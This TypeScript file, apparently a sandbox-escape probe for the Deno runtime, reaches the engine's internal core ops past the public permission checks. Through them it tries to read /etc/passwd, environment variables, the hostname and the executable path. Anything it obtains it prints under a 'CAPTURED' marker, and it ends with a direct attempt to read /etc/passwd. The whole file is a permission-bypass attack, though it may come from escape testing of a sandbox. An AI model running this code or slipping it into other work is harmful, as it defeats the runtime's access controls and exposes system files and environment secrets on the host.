//= wants: the engine's own operations, past the checks of the public calls
const inside = (Deno as unknown as Record<symbol, Record<string, unknown>>)[
  (Deno as unknown as { internal: symbol }).internal
];
const core = ((globalThis as unknown as { Deno: { core?: object } }).Deno.core ?? inside?.core ?? (globalThis as Record<string, unknown>).__bootstrap) as
  | { ops?: Record<string, (...values: unknown[]) => unknown> }
  | undefined;
const got: string[] = [];
for (const [name, values] of Object.entries({
  op_fs_read_file_text_sync: ["/etc/passwd", false],
  op_fs_read_file_sync: ["/etc/passwd"],
  op_require_read_file: ["/etc/passwd"],
  op_require_real_path: ["/etc/passwd"],
  op_require_stat: ["/etc/passwd"],
  op_get_env: ["HOME"],
  op_env: [],
  op_exec_path: [],
  op_hostname: [],
  op_main_module: [],
})) {
  try {
    const value = core?.ops?.[name]?.(...values);
    if (value !== undefined && name !== "op_main_module") got.push(`${name} ${JSON.stringify(value)}`);
  } catch {
    // refused
  }
}
if (got.length) console.log("CAPTURED", got.join(" | ").slice(0, 100));
try {
  console.log("CAPTURED", Deno.readTextFileSync("/etc/passwd").split("\n")[0]); // where Deno hides its inside
} catch {
  // refused
}
